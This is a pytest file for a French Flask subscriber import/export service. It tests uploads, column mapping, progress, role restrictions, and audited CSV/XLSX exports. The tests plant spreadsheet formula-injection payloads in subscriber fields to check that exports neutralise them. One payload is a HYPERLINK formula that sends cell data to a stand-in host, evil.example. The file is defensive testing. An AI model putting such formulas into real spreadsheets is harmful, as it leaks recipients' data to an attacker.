"""The pages: upload, mapping, progress, report, launch; exports defused and audited; roles."""

import csv
import io

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from service.accounts.models import Role
from service.audience import imports
from service.audience.models import Import, ImportStatus, Subscriber
from service.audit.models import AuditEntry
from service.config import Config
from tests.factories import MembershipFactory, SegmentFactory, SubscriberFactory, UserFactory
from tests.helpers import csrf_token, login
from tests.imports.files import ROWS, csv_bytes, xlsx_bytes

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def _login(client: FlaskClient, role: Role) -> None:
    UserFactory(email=f"{role.value}@agence.example.org", role=role)
    login(client, f"{role.value}@agence.example.org")


def _upload(client: FlaskClient, data: bytes, name: str = "abonnés.csv") -> object:
    token = csrf_token(client, "/abonnes/import/")
    return client.post(
        "/abonnes/import/",
        data={"csrf_token": token, "file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
    )


def test_upload_map_check_and_import(
    client: FlaskClient, db_session: Session, config: Config
) -> None:
    _login(client, Role.PUBLISHER)
    segment = SegmentFactory(name="Élus", double_opt_in=False)
    response = _upload(client, xlsx_bytes(ROWS), "abonnés.xlsx")
    assert response.status_code == 302  # type: ignore[attr-defined]
    record = db_session.scalars(select(Import)).one()
    page = client.get(f"/abonnes/import/{record.id}/colonnes").get_data(as_text=True)
    assert "Clémence" in page  # preview
    assert 'name="col-3"' in page
    assert '<option value="email" selected>' in page

    form = {f"col-{i}": choice for i, choice in record.mapping.items()}
    token = csrf_token(client, f"/abonnes/import/{record.id}/colonnes")
    response = client.post(
        f"/abonnes/import/{record.id}/colonnes",
        data={**form, "csrf_token": token, "segments": str(segment.id), "existing": "update"},
    )
    assert response.status_code == 302
    record = db_session.get_one(Import, record.id)
    assert record.status == ImportStatus.CHECKING
    page = client.get(f"/abonnes/import/{record.id}").get_data(as_text=True)
    assert 'hx-trigger="every 1s"' in page
    assert "htmx.min.js" in page
    fragment = client.get(f"/abonnes/import/{record.id}/progression")
    assert "HX-Refresh" not in fragment.headers

    imports.run(db_session(), config, record.id)  # what the worker does
    fragment = client.get(f"/abonnes/import/{record.id}/progression")
    assert fragment.headers["HX-Refresh"] == "true"
    page = client.get(f"/abonnes/import/{record.id}").get_data(as_text=True)
    assert "Vérifié, prêt à importer" in page
    assert "hx-trigger" not in page
    with client.get(f"/abonnes/import/{record.id}/rapport.csv") as report:
        assert report.data.startswith(b"\xef\xbb\xbfligne;adresse")

    token = csrf_token(client, f"/abonnes/import/{record.id}")
    assert (
        client.post(f"/abonnes/import/{record.id}/lancer", data={"csrf_token": token}).status_code
        == 302
    )
    imports.run(db_session(), config, record.id)
    page = client.get(f"/abonnes/import/{record.id}").get_data(as_text=True)
    assert "Terminé" in page
    emails = set(db_session.scalars(select(Subscriber.email)))
    assert {"clemence.dupont@mairie-lievin.fr", "jerome.lefevre@cc-ternois.fr"} <= emails


def test_mapping_without_email_column_is_refused(client: FlaskClient, db_session: Session) -> None:
    _login(client, Role.ADMIN)
    _upload(client, csv_bytes(ROWS))
    record = db_session.scalars(select(Import)).one()
    token = csrf_token(client, f"/abonnes/import/{record.id}/colonnes")
    response = client.post(
        f"/abonnes/import/{record.id}/colonnes",
        data={"csrf_token": token, **{f"col-{i}": "ignore" for i in range(7)}},
    )
    assert response.status_code == 400
    assert "Indiquez la colonne qui contient l&#39;adresse e-mail." in response.get_data(
        as_text=True
    )
    record = db_session.get_one(Import, record.id)
    assert record.status == ImportStatus.UPLOADED


def test_bad_file_gets_a_french_message(client: FlaskClient, db_session: Session) -> None:
    _login(client, Role.ADMIN)
    response = _upload(client, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "photo.csv")
    assert response.status_code == 400  # type: ignore[attr-defined]
    assert "n&#39;est pas un texte" in response.get_data(as_text=True)  # type: ignore[attr-defined]
    assert db_session.scalars(select(Import)).first() is None


@pytest.mark.parametrize("role", [Role.EDITOR, Role.ANALYST])
def test_only_admins_and_publishers_import(
    client: FlaskClient, db_session: Session, role: Role
) -> None:
    _login(client, role)
    assert client.get("/abonnes/import/").status_code == 403


def test_csv_export_is_defused_and_audited(client: FlaskClient, db_session: Session) -> None:
    _login(client, Role.ANALYST)
    segment = SegmentFactory(slug="elus")
    MembershipFactory(
        segment=segment,
        subscriber=SubscriberFactory(
            email="maire@lievin.fr",
            first_name=ATTACK,
            last_name="+33 3 21 00 00 00",
            organisation="-2+3",
            function="@SUM(A1)",
            commune="\tLiévin",
            epci="\rCALL",
            attributes={"Note": "=1+1"},
        ),
    )
    SubscriberFactory(email="autre@lens.fr")
    response = client.get(f"/abonnes/import/export/abonnes.csv?segment={segment.id}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="abonnes-elus.csv"' in response.headers["Content-Disposition"]
    data = response.data
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Adresse e-mail"
    assert len(rows) == 2  # the segment's member only
    row = rows[1]
    assert row[0] == "maire@lievin.fr"
    for cell in row[2:8]:
        assert cell.startswith("'"), cell
    assert row[2] == "'" + ATTACK
    assert row[10] == "Note : =1+1"  # not at the start of the cell: inert
    entry = db_session.scalars(
        select(AuditEntry).where(AuditEntry.action == "subscribers.exported")
    ).one()
    assert entry.details == {"format": "csv", "segment": segment.name}
    assert entry.target_id == segment.id

    everyone = client.get("/abonnes/import/export/abonnes.csv").data.decode("utf-8-sig")
    assert "autre@lens.fr" in everyone


def test_xlsx_export_has_no_formula(client: FlaskClient, db_session: Session) -> None:
    _login(client, Role.PUBLISHER)
    SubscriberFactory(email="maire@lievin.fr", first_name=ATTACK, last_name="ok\x01")
    response = client.get("/abonnes/import/export/abonnes.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "Adresse e-mail"
    assert values[1][2] == "'" + ATTACK
    assert values[1][3] == "ok"
    cell = sheet.cell(row=2, column=3)
    assert cell.data_type == "s"  # a string, not a formula


def test_editors_cannot_export(client: FlaskClient, db_session: Session) -> None:
    _login(client, Role.EDITOR)
    assert client.get("/abonnes/import/export").status_code == 403
    assert client.get("/abonnes/import/export/abonnes.csv").status_code == 403


def test_unknown_segment_export_is_404(client: FlaskClient, db_session: Session) -> None:
    _login(client, Role.ADMIN)
    assert client.get("/abonnes/import/export/abonnes.csv?segment=99999").status_code == 404
